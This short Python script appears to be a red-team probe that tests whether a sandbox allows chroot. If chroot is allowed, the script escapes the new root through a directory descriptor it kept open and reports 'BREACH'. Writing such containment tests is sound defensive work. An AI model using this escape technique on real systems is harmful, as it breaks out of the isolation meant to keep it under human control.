# /// redteam
# category = "filesystem"
# limits = { wall_s = 3.0 }
# ///
"""Changes the root into a directory of its own, then climbs out through a descriptor it kept."""

import os

outside = os.open("/", os.O_RDONLY)
try:
    os.mkdir("jail")
    os.chroot("jail")
except OSError:
    print("contained")
else:
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("BREACH chroot is allowed")
